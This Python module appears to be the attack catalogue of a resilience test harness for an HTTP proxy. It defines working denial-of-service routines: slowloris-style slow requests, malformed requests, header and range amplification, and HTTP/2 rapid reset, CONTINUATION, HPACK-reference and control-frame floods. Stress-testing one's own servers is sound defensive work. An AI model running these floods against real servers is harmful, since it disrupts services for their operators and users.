"""The attacks: each a coroutine that does one thing to a target until its time is over."""

import asyncio
import dataclasses
import typing

import frames
from frames import ACK, END_HEADERS, END_STREAM
from wires import Target, together


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str
    act: typing.Callable[[Target], typing.Awaitable[None]]
    # The server that it is aimed at, where that is not one with defaults.
    nofile: int | None = None
    intercepts: bool = False
    is_http2: bool = False


ATTACKS = []


def attack(what, **more):
    """Registers a coroutine as an attack of its own name."""

    def register(act):
        ATTACKS.append(Attack(act.__name__.replace("_", "-"), what, act, **more))
        return act

    return register


@attack("200 clients send a request head, a byte every half second")
async def slow_heads(target):
    async def one(_number):
        wire = await target.plain()
        await wire.trickle(target.get(b"/small"), 0.5)
        await target.rest()

    await together(one, 200)


@attack("200 clients connect and say nothing")
async def silence(target):
    async def one(_number):
        await target.plain()
        await target.rest()

    await together(one, 200)


@attack("200 clients announce 1 GB of content, and send a byte a second")
async def slow_contents(target):
    async def one(_number):
        wire = await target.plain()
        wire.send(target.get(b"/discard", b"Content-Length: 1000000000\r\n", b"POST"))
        await wire.trickle(b"x" * 1000, 1)

    await together(one, 200)


@attack("200 clients ask for 1 MB from the cache, and read none of it")
async def slow_readers(target):
    async def one(number):
        wire = await target.plain(reading=False, buffer=4096)
        wire.send(target.get(b"/mb/%d" % (number % 20)))
        await wire.flush()
        await target.rest()

    await together(one, 200)


@attack("50 clients send requests that are malformed, each on a new connection")
async def malformed(target):
    async def one(number):
        bad = [b"GET http://h/ HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
               b"GET http://h/ HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: x\r\n\r\n", b"\0" * 200, b"GET /\r\n\r\n"]
        while target.goes_on():
            wire = await target.plain()
            wire.send(bad[number % len(bad)])
            await wire.reading
            wire.close()

    await together(one, 50)


@attack("20 clients ask for 127 fields, 500 list members and 100 ranges")
async def long_lists(target):
    fields = b"".join(b"X-%d: a,b,,c\r\n" % number for number in range(120))
    ranges = b"Range: bytes=" + b",".join(b"%d-%d" % (at, at) for at in range(100)) + b"\r\n"
    lists = b"Accept-Encoding: " + b",".join(b"g;q=0.%d" % (at % 10) for at in range(500)) + b"\r\n"
    head = target.get(b"/small", fields + ranges + lists)

    async def one(_number):
        await (await target.plain()).flood(head)

    await together(one, 20)


@attack("20 clients send chunks of one byte with extensions")
async def tiny_chunks(target):
    async def one(_number):
        wire = await target.plain()
        wire.send(target.get(b"/discard", b"Transfer-Encoding: chunked\r\n", b"POST"))
        await wire.flood(b"1;a=b\r\nx\r\n" * 200)

    await together(one, 20)


@attack("one client after the other asks for an endless response, and leaves after half a second")
async def endless_left(target):
    async def one(number):
        for turn in range(100):
            if not target.goes_on():
                return
            # What it would read would be a download, which costs what it weighs.
            wire = await target.plain(reading=False, buffer=4096)
            wire.send(target.get(b"/endless/%d/%d" % (number, turn)))
            await asyncio.sleep(0.5)
            wire.close()

    await together(one, 4)


@attack("1,400 requests for responses that drip, each closed at once")
async def left_at_once(target):
    async def one(number):
        for turn in range(70):
            if not target.goes_on():
                return
            wire = await target.plain()
            wire.send(target.get(b"/drip/%d/%d" % (number, turn)))
            await wire.flush()
            wire.close()

    await together(one, 20)
    await target.rest()


@attack("100 tunnels to the origin, a byte every two seconds")
async def slow_tunnels(target):
    async def one(_number):
        wire = await target.plain()
        wire.send(b"CONNECT " + target.authority + b" HTTP/1.1\r\nHost: " + target.authority + b"\r\n\r\n")
        await wire.trickle(b"\0" * 1000, 2)

    await together(one, 100)


@attack("one address opens all the connections that 1,024 descriptors allow", nofile=1024)
async def one_address(target):
    async def one(_number):
        await target.plain()
        await target.rest()

    await together(one, 900)


@attack("12 HTTP/2 connections of 100 GETs that take for ever, with 1,024 descriptors", nofile=1024, is_http2=True)
async def slow_streams(target):
    async def one(number):
        wire = await target.http2()
        for at in range(100):
            wire.send(frames.request(2 * at + 1, target.authority, b"/slow/%d/%d" % (number, at)))
        await wire.flush()
        await target.rest()

    await together(one, 12)


@attack("10 HTTP/2 connections with a window of 0, 100 GETs of 1 MB on each", is_http2=True)
async def window_0(target):
    async def one(number):
        wire = await target.http2(s4=0)
        for at in range(100):
            wire.send(frames.request(2 * at + 1, target.authority, b"/mb/%d/%d" % (number, at)))
        await wire.flush()
        await target.rest()

    await together(one, 10)


@attack("20 HTTP/2 connections, 100 requests on each with 14 references to a field of 4 KB", is_http2=True)
async def hpack_references(target):
    async def one(number):
        wire = await target.http2()
        wide = frames.indexed_literal(b"x-wide", b"w" * 3900)
        wire.send(frames.request(1, target.authority, b"/slow/%d" % number, wide))
        for at in range(1, 100):
            wire.send(frames.request(2 * at + 1, target.authority, b"/slow/%d/%d" % (number, at),
                                     frames.reference(62) * 14))
        await wire.flush()
        await target.rest()

    await together(one, 20)


def flood(name, what, octets, count=4):
    """A flood of frames that carry nothing."""

    async def act(target):
        async def one(_number):
            while target.goes_on():
                wire = await target.http2()
                await wire.flood(octets)
                await asyncio.sleep(0.05)

        await together(one, count)

    ATTACKS.append(Attack(name, f"{count} HTTP/2 connections, made anew when they are ended: {what}", act,
                          is_http2=True))


flood("ping-acks", "PING frames with ACK that nobody asked for", frames.frame(frames.PING, ACK, 0, b"12345678") * 500)
flood("pings", "PING frames", frames.frame(frames.PING, 0, 0, b"12345678") * 500)
flood("settings", "SETTINGS frames", frames.settings(s4=65535) * 500)
flood("settings-acks", "SETTINGS frames with ACK that nobody asked for", frames.frame(frames.SETTINGS, ACK) * 500)
flood("priorities", "PRIORITY frames", frames.frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\1") * 500)
flood("unknown-frames", "frames of an unknown type", frames.frame(0x42, 0, 0, b"x") * 500)
flood("window-updates", "WINDOW_UPDATE frames of one byte",
      frames.frame(frames.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500)


@attack("4 HTTP/2 connections: requests that are reset at once", is_http2=True)
async def rapid_reset(target):
    async def one(_number):
        while target.goes_on():
            wire, stream = await target.http2(), 1
            while target.goes_on() and not wire.has_ended() and stream < 1 << 20:
                for _ in range(50):
                    reset = frames.frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")
                    wire.send(frames.request(stream, target.authority, b"/slow/%d" % stream) + reset)
                    stream += 2
                await wire.flush()
                await asyncio.sleep(0)

    await together(one, 4)


@attack("4 HTTP/2 connections: CONTINUATION frames without end", is_http2=True)
async def continuations(target):
    async def one(_number):
        while target.goes_on():
            wire = await target.http2()
            wire.send(frames.frame(frames.HEADERS, END_STREAM, 1, frames.get(target.authority, b"/small")))
            await wire.flood(frames.frame(frames.CONTINUATION, 0, 1, frames.literal(b"x", b"y")) * 100)

    await together(one, 4)


@attack("4 HTTP/2 connections: content in DATA frames of one byte", is_http2=True)
async def tiny_data(target):
    async def one(_number):
        while target.goes_on():
            wire = await target.http2()
            post = frames.reference(3) + frames.get(target.authority, b"/discard")[1:]
            wire.send(frames.frame(frames.HEADERS, END_HEADERS, 1, post))
            await wire.flood(frames.frame(frames.DATA, 0, 1, b"x") * 500)

    await together(one, 4)


@attack("4 HTTP/2 connections: empty DATA frames", is_http2=True)
async def empty_data(target):
    async def one(_number):
        while target.goes_on():
            wire = await target.http2()
            post = frames.reference(3) + frames.get(target.authority, b"/discard")[1:]
            wire.send(frames.frame(frames.HEADERS, END_HEADERS, 1, post))
            await wire.flood(frames.frame(frames.DATA, 0, 1) * 500)

    await together(one, 4)


@attack("an origin whose validations add 100 new fields each time")
async def growing_head(target):
    async def one(_number):
        wire = await target.plain()
        while target.goes_on() and not wire.has_ended():
            wire.send(target.get(b"/grow"))
            await wire.flush()
            await asyncio.sleep(0.02)

    await together(one, 2)


@attack("HTTPS intercepted: 8 clients, each connection a tunnel to a host that is new", intercepts=True)
async def new_hosts(target):
    async def one(number):
        turn = 0
        while target.goes_on():
            turn += 1
            wire = await target.plain(reading=False)
            host = b"h%d-%d.test:443" % (number, turn)
            wire.send(b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
            await wire.flush()
            wire.writer.transport.resume_reading()
            await wire.reader.readuntil(b"\r\n\r\n")
            await asyncio.wait_for(wire.writer.start_tls(target.context, server_hostname=host.decode()[:-4]), 10)
            wire.close()

    await together(one, 8)
